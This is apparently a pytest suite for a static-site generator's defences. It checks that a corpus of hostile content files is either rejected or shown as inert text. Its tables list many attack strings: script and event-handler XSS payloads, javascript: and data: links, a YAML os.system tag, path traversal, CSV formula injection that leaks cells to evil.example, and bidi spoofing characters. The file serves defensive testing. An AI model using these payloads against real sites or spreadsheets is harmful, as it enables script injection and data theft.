"""The hostile corpus in tests/hostile/: one file per attack, named for it.

Each file is added, alone, to a copy of the fixture chronicle (its place
under tests/hostile/ is its place under content/). A refused attack must give
exactly its expected problems, as ``chronicle check`` prints them; an accepted
one must show as plain text in the built site, with no element, attribute or
link of its own. Attacks that cannot be files in a repository (symlinks, a
2 MB file, a FIFO) are made by the tests below.
"""

from __future__ import annotations

import os
import re
import shutil
import unicodedata
from html.parser import HTMLParser
from pathlib import Path
from typing import ClassVar
from urllib.parse import unquote, urljoin, urlsplit

import pytest
from click.testing import CliRunner

from generator.bodies import rules as safety
from generator.bodies.render import check_body, render_body
from generator.cli import main
from generator.content.index import build_chronicle
from generator.content.model import ContentError
from generator.site.html import sanitize
from tests.conftest import FIXTURE, ROOT, SITE_NAME, SITE_URL, build_with_mkdocs
from tests.htmltree import VOID

HOSTILE = ROOT / "tests" / "hostile"
TAGS = (
    "abbr, b, br, cite, code, del, em, i, ins, kbd, mark, q, s, small, span, strong, sub, "
    "sup, time, u"
)


def tag(name: str) -> str:
    return f"HTML tag <{name}> is not allowed; allowed: {TAGS}"


def scheme(name: str) -> str:
    return f"{name}: links are not allowed; use http or https"


def event(name: str) -> str:
    return f"event attribute {name}= is not allowed"


def not_an_id(value: str) -> str:
    return f"{value!r} is not an id: use lowercase letters, digits and hyphens"


def only_http(value: str) -> str:
    return f"{value!r}: only http and https links are allowed"


def attribute(name: str, on: str) -> str:
    return f"attribute {name}= on <{on}> is not allowed; allowed: datetime, dir, lang, title"


def not_for_pages() -> str:
    return "is not allowed in the front matter of a page; allowed: description, hide, title"


def needs_folder(path: str) -> str:
    return (
        f"would be published at {path}/index.html, but {path} is a file (the generated "
        f"{path}): rename the file or its folder"
    )


def same_output(path: str, other: str) -> str:
    return f"is published at {path}, as is content/{other}: rename one of them"


THEME_FOLDER = (
    "would be published at search/search_index.json/index.html, in the theme's folder "
    "search/: rename the file or its folder"
)
HIDE_HELP = (
    "Parts of the theme to hide on this page: navigation, toc, footer, path, tags, feedback."
)
MULTIMARKDOWN = (
    "a first line 'key: value' is MultiMarkdown metadata, which MkDocs would read as the "
    "page's settings: put front matter between two lines '---', or begin the page with "
    "other text"
)
UNCLOSED_SCRIPT = "unclosed HTML tag '<script': end it with '>', or write &lt; for a literal '<'"
CLASS_ON_P = "attribute class= on <p> is not allowed; allowed: datetime, dir, lang, title"
TRACKING = "images from other sites are not allowed: they would tell that site who reads the page"
NOT_MARKDOWN = (
    "only Markdown files ending in .md may be in the content folder (MkDocs would "
    "publish any other file as it is)"
)
BAD_ID = (
    "'Upper-Case-Id' is not a valid id: name the file with lowercase letters, digits and "
    "hyphens (and not 'index')"
)
BREAKOUT = (
    "'https://example.org/\"onmouseover=\"alert(1)' is not a valid link: spaces, quotes "
    "and angle brackets must be percent-encoded"
)


def control(code: str, kind: str = "control character") -> str:
    return f"holds the {kind} {code}: remove it"


def invisible(code: str) -> str:
    return (
        f"holds the invisible character {code}: names, titles and claimants may not hold "
        "invisible or direction-changing characters, which make one name look like another: "
        "remove it"
    )


def year(value: str) -> str:
    return f"{value!r}: the year must be from 1000 to 2999"


def same_file(path: str, other: str, at: str) -> str:
    return (
        f"is published at {path}, the same file as content/{other} (at {at}) where case and "
        "Unicode normalisation are ignored (macOS, Windows, many CDNs): rename one of them"
    )


# Refused attacks: the file, then every error it gives as (line, field, message).
REFUSED: dict[str, list[tuple[int, str, str]]] = {
    "events/body-script-tag.md": [(12, "body", tag("script"))],
    "events/body-script-tag-uppercase.md": [(12, "body", tag("script"))],
    "events/body-iframe.md": [(12, "body", tag("iframe"))],
    "events/body-object.md": [(12, "body", tag("object"))],
    "events/body-embed.md": [(12, "body", tag("embed"))],
    "events/body-form.md": [(12, "body", tag("form")), (12, "body", tag("input"))],
    "events/body-meta-refresh.md": [(12, "body", tag("meta"))],
    "events/body-svg-onload.md": [
        (12, "body", tag("circle")),
        (12, "body", tag("svg")),
        (12, "body", event("onload")),
    ],
    "events/body-math.md": [(12, "body", tag("maction")), (12, "body", tag("math"))],
    "events/body-event-attribute.md": [(12, "body", event("onmouseover"))],
    "events/body-tag-split-across-lines.md": [(13, "body", event("onmouseover"))],
    "events/body-style-url.md": [(12, "body", "style attributes are not allowed")],
    "events/body-html-in-heading.md": [(12, "body", tag("img")), (12, "body", event("onerror"))],
    "events/body-markdown-in-html.md": [(12, "body", tag("div")), (13, "body", event("onclick"))],
    "events/body-attribute-list-onclick.md": [
        (13, "body", CLASS_ON_P),
        (13, "body", event("onclick")),
    ],
    "events/body-html-comment.md": [(12, "body", "HTML comments are not allowed")],
    "events/body-unclosed-script-tag.md": [(12, "body", UNCLOSED_SCRIPT)],
    "events/body-unclosed-formatting-tag.md": [(12, "body", "HTML tag <s> is not closed")],
    "events/body-javascript-link.md": [(12, "body", scheme("javascript"))],
    "events/body-javascript-entity-encoded.md": [(12, "body", scheme("javascript"))],
    "events/body-javascript-mixed-case-whitespace.md": [(12, "body", scheme("javascript"))],
    "events/body-reference-link-javascript.md": [(15, "body", scheme("javascript"))],
    "events/body-autolink-javascript.md": [(12, "body", scheme("javascript"))],
    "events/body-vbscript-link.md": [(12, "body", scheme("vbscript"))],
    "events/body-data-uri-image.md": [(12, "body", scheme("data"))],
    "events/body-tracking-image.md": [(12, "body", TRACKING)],
    "page-body-script.md": [(5, "body", tag("script"))],
    "page-front-matter-billion-laughs.md": [
        (3, "front matter", "YAML anchors and aliases are not allowed")
    ],
    "sources/url-javascript.md": [(6, "url", only_http("javascript:alert(1)"))],
    "sources/archive-url-data.md": [
        (6, "archive_url", only_http("data:text/html,<script>alert(1)</script>")),
    ],
    "sources/url-attribute-breakout.md": [(6, "url", BREAKOUT)],
    "events/Upper-Case-Id.md": [(1, "id", BAD_ID)],
    "events/redirect-from-path-traversal.md": [
        (9, "redirect_from[0]", not_an_id("../../index")),
        (9, "redirect_from[1]", not_an_id("events/../../../etc")),
    ],
    "events/claim-id-path-traversal.md": [(14, "claims[0].id", not_an_id("../../x"))],
    "events/non-markdown-file.html": [(1, "file", NOT_MARKDOWN)],
    "events/yaml-billion-laughs.md": [
        (3, "front matter", "YAML anchors and aliases are not allowed")
    ],
    "events/yaml-python-object-tag.md": [
        (2, "front matter", "YAML tag !!python/object/apply:os.system is not allowed"),
    ],
    "events/front-matter-nested-too-deep.md": [
        (3, "front matter", "front matter is nested deeper than the schema allows"),
    ],
    "events/claims-over-limit.md": [(9, "claims", "has 201 items; at most 200 are allowed")],
    "events/invalid-utf8.md": [(4, "file", "invalid UTF-8 at byte 64: save the file as UTF-8")],
    # Contributor HTML may not hide, restyle or take an anchor.
    "events/body-hidden-attribute.md": [(12, "body", attribute("hidden", "span"))],
    "events/body-id-attribute.md": [(12, "body", attribute("id", "span"))],
    "events/body-project-class.md": [(12, "body", attribute("class", "span"))],
    "events/body-link-to-missing-page.md": [
        (12, "body", "links to '../../actors/nobody.md', which is not a page of the site")
    ],
    # Ids are matched to the end of the text, not to a final newline.
    "events/claim-id-trailing-newline.md": [(14, "claims[0].id", not_an_id("first\n"))],
    # A key can never start a line of the log.
    "events/key-workflow-command.md": [(9, "x\\n::notice title=Injected::owned", "unknown field")],
    # Ordinary pages: the reader, limits and allow-list of entries.
    "page-front-matter-key-markup.md": [
        (2, "title", "must be text, not a mapping"),
        (3, "description", "must be text, not a mapping"),
    ],
    "page-front-matter-template.md": [(3, "template", not_for_pages())],
    "page-front-matter-search-exclude.md": [
        (3, "search", not_for_pages()),
        (4, "hide[1]", f"'sidebar' is not valid here: {HIDE_HELP}"),
    ],
    "page-multimarkdown-metadata.md": [
        (1, "body", tag("script")),
        (1, "front matter", MULTIMARKDOWN),
    ],
    "page-lone-cr-alias-bomb.md": [
        (3, "front matter", "YAML anchors and aliases are not allowed"),
    ],
    # Output paths: no page replaces another, nor a generated file.
    "about/index.md": [
        (1, "file", same_output("about/index.html", "about/index.md"), "about.md"),
        (1, "file", same_output("about/index.html", "about.md")),
    ],
    "schema/event.json.md": [(1, "file", needs_folder("schema/event.json"))],
    "sitemap.xml.md": [(1, "file", needs_folder("sitemap.xml"))],
    "search/search_index.json.md": [(1, "file", THEME_FOLDER)],
    # Text fields hold no control character or non-character (YAML escapes can write
    # them); names, titles and claimants no invisible or direction-changing character.
    "events/title-escape-control.md": [
        (2, "title", control("U+001B")),
        (3, "summary", control("U+0007")),
    ],
    "events/title-carriage-return.md": [
        (2, "title", control("U+000D")),
        (3, "summary", control("U+2028 (LINE SEPARATOR)")),
    ],
    "events/summary-noncharacter.md": [
        (3, "summary", control("U+FFFE", "non-character")),
        (4, "date_note", control("U+0085")),
    ],
    "events/claimant-bidi-override.md": [
        (10, "claims[0].about", invisible("U+2066 (LEFT-TO-RIGHT ISOLATE)")),
        (11, "claims[0].by", invisible("U+202E (RIGHT-TO-LEFT OVERRIDE)")),
    ],
    "events/claimant-zero-width.md": [
        (2, "title", invisible("U+2060 (WORD JOINER)")),
        (11, "claims[0].by", invisible("U+200B (ZERO WIDTH SPACE)")),
    ],
    "actors/name-byte-order-mark.md": [
        (2, "name", invisible("U+FEFF (ZERO WIDTH NO-BREAK SPACE)")),
        (3, "aliases[1]", invisible("U+202B (RIGHT-TO-LEFT EMBEDDING)")),
    ],
    # Every date the check accepts can be built: years outside the range are refused.
    "events/date-year-zero.md": [(4, "date", year("0000"))],
    "events/date-year-9999.md": [(4, "date", year("9999-12"))],
    "events/date-end-9999.md": [(5, "end", year("9999-12-31"))],
    "sources/date-year-999.md": [
        (
            4,
            "date",
            (
                "'999' is not a date: use YYYY-MM-DD, YYYY-MM or YYYY, or 'before' or 'after' one "
                "of them"
            ),
        )
    ],
    # Output paths are compared as case-insensitive hosts compare them.
    "About.md": [
        (1, "file", same_file("About/index.html", "about.md", "about/index.html")),
        (1, "file", same_file("about/index.html", "About.md", "About/index.html"), "about.md"),
    ],
    # A link to a heading of contributor text must find it.
    "page-link-to-missing-anchor.md": [
        (5, "body", "links to #disputes in about.md: the heading's id is #text-disputes"),
        (5, "body", "links to #text-gone in about.md, which has no such heading"),
    ],
}

ALIASES = '<script>alert("alias")</script>, [alias link](javascript:alert("alias")), {{ 6*7 }}'
CITATION = (
    '"><script>alert("publisher")</script>, <a href="javascript:alert(\'source\')">Read '
    "the report</a> (<style>body{display:none}</style> English title), "
    "![pixel](https://tracker.example/p.gif), 15 September 2024"
)

# Accepted attacks: the file, then (page, text) pairs: the text must be shown,
# as text, in the page's content.
ACCEPTED: dict[str, list[tuple[str, str]]] = {
    "events/title-script-tag.md": [
        ("events/title-script-tag/", '<script>alert("title")</script> Battle at the ford'),
        ("chronicle/", '<script>alert("title")</script> Battle at the ford'),
    ],
    "events/summary-img-onerror.md": [
        ("events/summary-img-onerror/", '<img src=x onerror=alert("summary")> Rebels attacked.'),
        ("events/summary-img-onerror/", "Battles \u00b7 <marquee>Armed clash</marquee>"),
    ],
    "events/title-markdown-link.md": [
        (
            "events/title-markdown-link/",
            '[Click me](javascript:alert("link")) and ![img](https://tracker.example/p.gif)',
        ),
        ("events/title-markdown-link/", '[Summary link](javascript:alert("summary-link"))'),
    ],
    "events/title-jinja-expression.md": [
        ("events/title-jinja-expression/", "{{ 7*7 }} and {{ config }} in a title"),
        ("events/title-jinja-expression/", "{% for x in range(3) %}loop{% endfor %} {# hidden? #}"),
    ],
    "events/claim-says-script.md": [
        (
            "events/claim-says-script/",
            '<script>alert("says")</script> and [x](javascript:alert("says-link")) were said.',
        ),
        ("events/claim-says-script/", '10 <u onclick=alert("of")>soldiers</u>'),
        ("actors/rebels/", '<script>alert("says")</script> and [x](javascript:alert('),
        ("sources/wire-report/", '<script>alert("says")</script> and [x](javascript:alert('),
    ],
    "events/claimant-img-onerror.md": [
        ("events/claimant-img-onerror/", '<img src=x onerror=alert("by")> a local source'),
    ],
    "events/claim-about-jinja-statement.md": [
        ("events/claim-about-jinja-statement/", "{% if true %}yes{% endif %} {# comment #} topic"),
        ("events/claim-about-jinja-statement/", "The army said {{ self }} was nothing."),
    ],
    "events/title-attr-list-injection.md": [
        ("events/title-attr-list-injection/", 'Battle {: onclick="alert(1)" } {#injected-id}'),
    ],
    "events/title-newline-html-block.md": [
        (
            "events/title-newline-html-block/",
            'Line one </h1><script>alert("nl")</script> # Injected heading',
        ),
        (
            "events/title-newline-html-block/",
            'Summary </p></div><iframe src="https://evil.example"></iframe>',
        ),
    ],
    "events/assessment-note-iframe.md": [
        ("events/assessment-note-iframe/", '<b onmouseover=alert("assess")>bold</b> reading'),
        (
            "events/assessment-note-iframe/",
            '<iframe src="https://evil.example/frame"></iframe> note',
        ),
    ],
    "events/date-note-entity-encoded.md": [
        (
            "events/date-note-entity-encoded/",
            "&lt;script&gt;alert(1)&lt;/script&gt; and &#106;avascript:alert(2)",
        ),
    ],
    "events/bom-crlf-line-endings.md": [
        ("events/bom-crlf-line-endings/", "Saved with a byte-order mark and CRLF"),
        ("events/bom-crlf-line-endings/", "The army said CRLF files load."),
        ("events/bom-crlf-line-endings/", "A second paragraph."),
    ],
    "events/claim-about-nfc-nfd.md": [
        ("events/claim-about-nfc-nfd/", "2 claims on 1 topic; 1 disputed."),
    ],
    "events/body-code-and-allowed-html.md": [
        ("events/body-code-and-allowed-html/", 'payload <script>alert("code")</script> was posted'),
        ("events/body-code-and-allowed-html/", '<iframe src="https://evil.example"></iframe>'),
        ("events/body-code-and-allowed-html/", "that {{ config }} and {% raw %} mean nothing"),
    ],
    "actors/alias-script-tag.md": [
        ("actors/alias-script-tag/", ALIASES),
        ("actors/", f"Alias Attack Group ({ALIASES})"),
    ],
    "actors/aliases-nfc-nfd-duplicate.md": [
        ("actors/aliases-nfc-nfd-duplicate/", "Also known as M\u00e9naka Militia, GAM"),
    ],
    "actors/name-svg-onload.md": [
        ("actors/name-svg-onload/", '<svg onload=alert("name")> Front'),
        ("actors/name-svg-onload/", "<math><mi>x</mi></math>"),
        ("actors/", '<svg onload=alert("name")> Front'),
    ],
    "sources/source-title-anchor-tag.md": [
        ("sources/source-title-anchor-tag/", CITATION),
    ],
    "page-front-matter-title-script.md": [
        ("page-front-matter-title-script/", "An ordinary page whose front matter holds script"),
    ],
    # What the renderer once rewrote after the check: code stays code, fences stay fences.
    "events/body-code-span-line-break-heading.md": [
        ("events/body-code-span-line-break-heading/", "<br># Live heading and </li># Another"),
        ("events/body-code-span-line-break-heading/", "</li># Heading in a list"),
        ("events/body-code-span-line-break-heading/", "a<br>## Heading after a break"),
    ],
    "events/body-fence-hidden-wrapper.md": [
        (
            "events/body-fence-hidden-wrapper/",
            '<br> <div hidden> </li> <section class="claims-box">',
        ),
    ],
    "events/body-fence-tracking-image.md": [
        ("events/body-fence-tracking-image/", "</dd>![pixel](https://tracker.example/p.gif)"),
        ("events/body-fence-tracking-image/", '<img src="https://tracker.example/q.gif">'),
    ],
    "events/body-code-fake-badge.md": [
        ("events/body-code-fake-badge/", '<span class="confidence confidence-corroborated">'),
    ],
    # Ids a body sets are its own: the claims, citations and topics keep theirs.
    "events/body-heading-takes-generated-anchors.md": [
        ("events/body-heading-takes-generated-anchors/", "Back to the claims and to this section"),
    ],
    "events/body-setext-heading-anchor.md": [
        ("events/body-setext-heading-anchor/", "Sources\u00b6 Claims\u00b6"),
    ],
    "page-title-from-heading.md": [
        ("page-title-from-heading/", "The title of this page comes from its first heading."),
    ],
    "page-file-name-title.md": [
        ("page-file-name-title/", "No heading and no title: the title comes from the file name."),
    ],
    # Downloads: formulas, line breaks and separators stay text in every format.
    "events/claim-csv-formula.md": [
        (
            "events/claim-csv-formula/",
            '=HYPERLINK("https://evil.example/?leak="&B2&C2,"Read the report")',
        ),
        ("events/claim-csv-formula/", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ],
    "events/title-ics-line-break.md": [
        (
            "events/title-ics-line-break/",
            "Ambush END:VEVENT BEGIN:VEVENT UID:fake@evil.example SUMMARY:Fake event",
        ),
    ],
    # Look-alikes are a reviewer's warning; scripts keep their joiners and marks.
    "events/claimant-lookalike-cyrillic.md": [
        ("events/claimant-lookalike-cyrillic/", "N\u0430ti\u043en\u0430l \u0410rmy"),
    ],
    "locations/name-persian-arabic-joiners.md": [
        ("locations/name-persian-arabic-joiners/", "\u0645\u06cc\u200c\u062e\u0627\u0646\u0647"),
        ("locations/name-persian-arabic-joiners/", "\u0644\u0627\u200d\u0644\u0627"),
    ],
    "locations/name-attribute-breakout.md": [
        ("locations/name-attribute-breakout/", '" onmouseover="alert(1)'),
        ("locations/name-attribute-breakout/", "'><img src=x onerror=alert(1)>"),
        ("locations/name-attribute-breakout/", '</dd><script>alert("loc")</script>'),
    ],
}


def _problem(rel: str, line: int, field: str, message: str, on: str | None = None) -> str:
    """A problem of the attack file, or (``on``) of the content file it clashes with."""
    return f"content/{on or rel}:{line}: {field}: {message}"


def _content_with(tmp: Path, *rels: str) -> Path:
    content = tmp / "content"
    shutil.copytree(FIXTURE, content)
    for rel in rels:
        (content / rel).parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(HOSTILE / rel, content / rel)
    return content


def _errors(content: Path) -> list[str]:
    with pytest.raises(ContentError) as caught:
        build_chronicle(content, display="content")
    return [str(p) for p in caught.value.problems if p.severity == "error"]


# --- reading the built HTML -------------------------------------------------------------


class Page(HTMLParser):
    """A built page: its elements, its title, and the text of its content."""

    VOID = VOID
    INLINE: ClassVar[set[str]] = {
        "a",
        "abbr",
        "b",
        "cite",
        "code",
        "del",
        "em",
        "i",
        "ins",
        "kbd",
        "mark",
        "q",
        "s",
        "small",
        "span",
        "strong",
        "sub",
        "sup",
        "time",
        "u",
    }

    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict, bool]] = []  # (tag, attributes, in the content)
        self.ids: set[str] = set()
        self.title = ""
        self._content: list[str] = []
        self._stack: list[str] = []
        self._article = 0  # depth of the <article> element while inside it
        self._text = 0  # depth of the contributor's text (div.entry-text, div.page-text)
        self.contributed: list[tuple[str, dict]] = []  # the elements of contributors' text
        self._in_title = False
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        attributes = {k: v or "" for k, v in attrs}
        if tag == "article" and not self._article:
            self._article = len(self._stack) + 1
        if self._text:
            self.contributed.append((tag, attributes))
        elif tag == "div" and attributes.get("class") in ("entry-text", "page-text"):
            self._text = len(self._stack) + 1
        self.elements.append((tag, attributes, bool(self._article)))
        for key in ("id", "name"):
            if key in attributes:
                self.ids.add(attributes[key])
        self._in_title = tag == "title" and not self._article  # not an SVG <title>
        if self._article and tag not in self.INLINE:
            self._content.append(" ")
        if tag not in self.VOID:
            self._stack.append(tag)

    def handle_endtag(self, tag):
        self._in_title = False
        if self._article and tag not in self.INLINE:
            self._content.append(" ")
        if tag in self._stack:
            while self._stack and self._stack.pop() != tag:
                pass
        if self._article and len(self._stack) < self._article:
            self._article = 0
        if self._text and len(self._stack) < self._text:
            self._text = 0

    def handle_data(self, data):
        if self._in_title:
            self.title += data
        if self._article:
            self._content.append(data)

    @property
    def text(self) -> str:
        """The content's text as a reader sees it: entities decoded, blanks collapsed."""
        return " ".join("".join(self._content).split())


def read_page(site: Path, url: str) -> Page:
    return Page((site / url / "index.html").read_text(encoding="utf-8"))


def html_pages(site: Path) -> list[Path]:
    return sorted(site.rglob("*.html"))


def broken_links(site: Path, site_path: str = "/") -> list[str]:
    """Every internal link or anchor of the built site that does not resolve."""
    pages = {p: Page(p.read_text(encoding="utf-8")) for p in html_pages(site)}
    broken = []
    for file, page in pages.items():
        here = "/" + file.relative_to(site).as_posix()
        for tag, attributes, _ in page.elements:
            target = attributes.get("href" if tag in ("a", "link") else "src")
            if target is None or tag not in ("a", "link", "script", "img"):
                continue
            parts = urlsplit(urljoin("http://site" + here, target))
            if parts.netloc != "site":
                continue  # external
            path = unquote(parts.path)
            if site_path != "/" and path.startswith(site_path):
                path = "/" + path[len(site_path) :]
            found = site / path.lstrip("/")
            if path.endswith("/"):
                found = found / "index.html"
            if not found.is_file():
                broken.append(f"{here}: {target} (no file {path})")
                continue
            if parts.fragment and found.suffix == ".html":
                ids = pages[found].ids if found in pages else set()
                if unquote(parts.fragment) not in ids:
                    broken.append(f"{here}: {target} (no anchor #{parts.fragment})")
    return broken


# --- the corpus --------------------------------------------------------------------------


def test_every_hostile_file_has_its_expected_outcome():
    files = sorted(p.relative_to(HOSTILE).as_posix() for p in HOSTILE.rglob("*") if p.is_file())
    assert files == sorted([*REFUSED, *ACCEPTED])
    assert len(files) >= 25


@pytest.mark.parametrize("rel", sorted(REFUSED))
def test_refused_attack_gives_its_exact_problems(rel, tmp_path):
    content = _content_with(tmp_path, rel)
    assert _errors(content) == [_problem(rel, *p) for p in REFUSED[rel]]


def test_chronicle_check_prints_every_problem_and_exits_1(tmp_path):
    rels = ["events/body-script-tag.md", "sources/url-javascript.md"]
    content = _content_with(tmp_path, *rels)
    result = CliRunner().invoke(main, ["check", str(content)])
    assert result.exit_code == 1
    shown = os.path.relpath(content)
    errors = [line for line in result.output.splitlines() if ": warning: " not in line]
    assert errors[:2] == [
        f"{shown}/events/body-script-tag.md:12: body: {tag('script')}",
        f"{shown}/sources/url-javascript.md:6: url: {only_http('javascript:alert(1)')}",
    ]


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    """The fixture chronicle with every accepted attack, built by MkDocs once."""
    tmp = tmp_path_factory.mktemp("hostile")
    content = _content_with(tmp, *ACCEPTED)
    site = tmp / "site"
    done = build_with_mkdocs(content, site)
    assert done.returncode == 0, done.stderr
    return site


@pytest.mark.parametrize("rel", sorted(ACCEPTED))
def test_accepted_attack_shows_as_text(hostile_site, rel):
    for url, text in ACCEPTED[rel]:
        assert text in read_page(hostile_site, url).text, url


def the_404_search(path: Path, tag: str, attributes: dict) -> bool:
    """Whether the element is the search form of the theme's 404 page (its form, leading to
    the site's own home page, and its field): the one form of the site, not content's."""
    if path.as_posix() != "404.html":
        return False
    if tag == "form":
        return attributes.get("class") == "not-found-search" and not safety.scheme_of(
            attributes.get("action", "")
        )
    return tag == "input" and attributes.get("id") == "not-found-query"


def test_no_page_carries_script_handlers_or_script_links(hostile_site):
    material_scripts = 0
    for file in html_pages(hostile_site):
        page = Page(file.read_text(encoding="utf-8"))
        for tag, attributes, in_content in page.elements:
            where = f"{file.relative_to(hostile_site)}: <{tag} {attributes}>"
            assert not [a for a in attributes if a.startswith("on")], where
            for name in ("href", "src", "action", "formaction", "data"):
                scheme = safety.scheme_of(attributes.get(name, ""))
                assert scheme in (None, "http", "https", "mailto"), where
            if tag == "svg" and in_content:
                # The generated maps and charts (geo.py, chart.py); a contributor's SVG
                # is refused by the body check, and would carry none of these classes.
                assert attributes.get("class") in ("map", "map map-compact", "timeline"), where
            elif in_content and the_404_search(file.relative_to(hostile_site), tag, attributes):
                pass
            elif in_content:
                assert tag not in (
                    "script",
                    "iframe",
                    "object",
                    "embed",
                    "form",
                    "svg",
                    "math",
                    "style",
                    "img",
                    "meta",
                    "base",
                    "link",
                    "input",
                ), where
                assert "style" not in attributes, where
            elif tag == "script":
                material_scripts += 1
    assert material_scripts  # the theme's own scripts, outside the content, are kept


CONTRIBUTOR_TAGS = {*safety.ALLOWED_TAGS, *safety.MARKDOWN_TAGS}


def test_contributor_text_has_no_hidden_element_project_class_or_foreign_id(hostile_site):
    seen = 0
    for file in html_pages(hostile_site):
        page = Page(file.read_text(encoding="utf-8"))
        for tag, attributes in page.contributed:
            seen += 1
            where = f"{file.relative_to(hostile_site)}: <{tag} {attributes}>"
            assert tag in CONTRIBUTOR_TAGS, where
            assert "hidden" not in attributes and "style" not in attributes, where
            assert attributes.get("id", "text-").startswith("text-"), where
            classes = attributes.get("class", "")
            assert classes in ("", "citation", "headerlink") or re.fullmatch(
                r"language-[\w-]+", classes
            ), where
            if classes == "headerlink":
                assert attributes["href"].startswith("#text-"), where
            assert not safety.is_external(attributes.get("src", "")), where
    assert seen > 100


def test_no_page_loads_anything_from_another_site(hostile_site):
    for file in html_pages(hostile_site):
        for tag, attributes, _ in Page(file.read_text(encoding="utf-8")).elements:
            where = f"{file.relative_to(hostile_site)}: <{tag} {attributes}>"
            for name in ("src", "srcset", "poster", "data", "background"):
                assert not safety.is_external(attributes.get(name, "")), where
            if tag == "link" and attributes.get("rel") != "canonical":
                assert not safety.is_external(attributes.get("href", "")), where


def test_code_in_bodies_stays_code(hostile_site):
    for rel in ("body-code-span-line-break-heading", "body-fence-hidden-wrapper"):
        page = read_page(hostile_site, f"events/{rel}/")
        headings = [t for t, _, inside in page.elements if inside and re.fullmatch("h[1-6]", t)]
        assert headings == ["h1", "h2", "h2", "h2"], rel  # the title, Claims, Sources, Cite
        assert [t for t, _ in page.contributed if t not in ("p", "code", "pre", "ul", "li")] == [
            "sup",
            "a",
        ], rel  # the citation only
    page = read_page(hostile_site, "events/body-fence-hidden-wrapper/")
    box = [a for t, a, _ in page.elements if a.get("class") == "claims-box"]
    assert box == [
        {"class": "claims-box", "aria-label": "Conflicting claims", "data-search-exclude": ""}
    ]


def test_a_body_cannot_take_the_anchors_of_claims_citations_or_topics(hostile_site):
    for rel in ("body-heading-takes-generated-anchors", "body-setext-heading-anchor"):
        raw = (hostile_site / f"events/{rel}/index.html").read_text(encoding="utf-8")
        page = Page(raw)
        ids = [a["id"] for _, a, _ in page.elements if "id" in a]
        assert len(ids) == len(set(ids)), rel
        owners = {a["id"]: t for t, a, _ in page.elements if "id" in a}
        assert owners["claims"] == "h2" and owners["sources"] == "h2", rel
        assert owners["source-wire-report"] == "li", rel
    page = read_page(hostile_site, "events/body-heading-takes-generated-anchors/")
    assert [a["id"] for t, a in page.contributed if "id" in a] == [
        "text-claims",
        "text-sources",
        "text-source-wire-report",
        "text-topic-1",
    ]
    links = [a["href"] for t, a in page.contributed if t == "a" and "class" not in a]
    assert links == ["#source-wire-report", "#text-claims", "#text-sources"]
    permalinks = [a["href"] for t, a in page.contributed if a.get("class") == "headerlink"]
    assert permalinks == [
        "#text-claims",
        "#text-sources",
        "#text-source-wire-report",
        "#text-topic-1",
    ]


def test_links_to_md_files_in_bodies_lead_to_their_pages(hostile_site):
    page = read_page(hostile_site, "page-file-name-title/")
    links = [a["href"] for t, a in page.contributed if t == "a"]
    assert links == ["../chronicle/", "../actors/army/", "../about/#text-disputes"]
    assert page.title == f"Page file name title - {SITE_NAME}"
    page = read_page(hostile_site, "page-title-from-heading/")
    assert page.title == f"A heading with markup & code - {SITE_NAME}"


def test_published_body_is_the_checked_body(tmp_path):
    """The page's sanitizer finds nothing to change in a body: it was published as checked."""
    content = _content_with(tmp_path, *ACCEPTED)
    chronicle = build_chronicle(content, display="content")
    bodies = [e.html for e in chronicle.events] + [p.html for p in chronicle.pages]
    bodies += [
        e.html for kind in ("actor", "location", "source") for e in chronicle.terms(kind).values()
    ]
    assert all(sanitize(body) == body for body in bodies)
    assert sum(len(b) for b in bodies) > 5_000


def test_hostile_title_is_text_in_the_window_title_and_header(hostile_site):
    page = read_page(hostile_site, "events/title-script-tag/")
    title = '<script>alert("title")</script> Battle at the ford'
    assert page.title == f"{title} - {SITE_NAME}"
    raw = (hostile_site / "events/title-script-tag/index.html").read_text(encoding="utf-8")
    topics = re.findall(
        r'<div class="md-header__topic"[^>]*>\s*<span class="md-ellipsis">'
        r"\s*(.*?)\s*</span>",
        raw,
        re.DOTALL,
    )
    assert topics == [
        SITE_NAME,
        '&lt;script&gt;alert("title")&lt;/script&gt; Battle at the ford',
    ]


def assert_page_front_matter_is_text(site: Path) -> None:
    """The hostile page's front-matter title and description read as text, not markup."""
    page = read_page(site, "page-front-matter-title-script/")
    assert page.title == (f'<script>alert("page title")</script> Notes & "quotes" - {SITE_NAME}')
    descriptions = [
        a["content"] for t, a, _ in page.elements if t == "meta" and a.get("name") == "description"
    ]
    assert descriptions == ['"><script>alert("description")</script>']


def test_page_front_matter_is_text_in_the_title_and_description(hostile_site):
    assert_page_front_matter_is_text(hostile_site)


def test_apostrophes_in_titles_are_not_shown_as_entities(hostile_site):
    page = read_page(hostile_site, "sources/source-title-anchor-tag/")
    assert page.title.startswith("<a href=\"javascript:alert('source')\">Read the report</a>")


def test_template_syntax_is_never_evaluated(hostile_site):
    page = read_page(hostile_site, "events/title-jinja-expression/")
    heading = page.text.split(" Template syntax")[0]
    assert "49" not in heading and "loop loop" not in heading


def test_names_and_aliases_are_nfc_and_duplicates_collapse(hostile_site):
    raw = (hostile_site / "actors/aliases-nfc-nfd-duplicate/index.html").read_text("utf-8")
    aliases = re.findall(r'<span class="alias"[^>]*>(.*?)</span>', raw)
    assert aliases == ["M\u00e9naka Militia", "GAM"]
    page = read_page(hostile_site, "actors/aliases-nfc-nfd-duplicate/")
    assert page.title.startswith("M\u00e9naka Self-Defence Group")
    assert unicodedata.normalize("NFC", raw) == raw


def test_topic_typed_in_two_unicode_forms_is_one_topic(hostile_site):
    raw = (hostile_site / "events/claim-about-nfc-nfd/index.html").read_text("utf-8")
    topics = re.findall(r'<h3 class="claims-about">(.*?)<', raw)
    assert topics == ["Pertes \u00e0 M\u00e9naka "]


def test_external_links_open_with_noopener_noreferrer(hostile_site):
    external = 0
    for file in html_pages(hostile_site):
        for tag, attributes, in_content in Page(file.read_text(encoding="utf-8")).elements:
            href = attributes.get("href", "")
            if tag == "a" and in_content and safety.scheme_of(href) in ("http", "https"):
                external += 1
                assert {"noopener", "noreferrer"} <= set(attributes.get("rel", "").split()), href
    assert external
    page = read_page(hostile_site, "events/body-code-and-allowed-html/")
    links = [a for t, a, _ in page.elements if t == "a" and a.get("href", "").endswith("/report")]
    assert links == [{"href": "https://example.org/report", "rel": "noopener noreferrer"}]


def test_internal_links_keep_their_own_rel(hostile_site):
    page = read_page(hostile_site, "events/title-script-tag/")
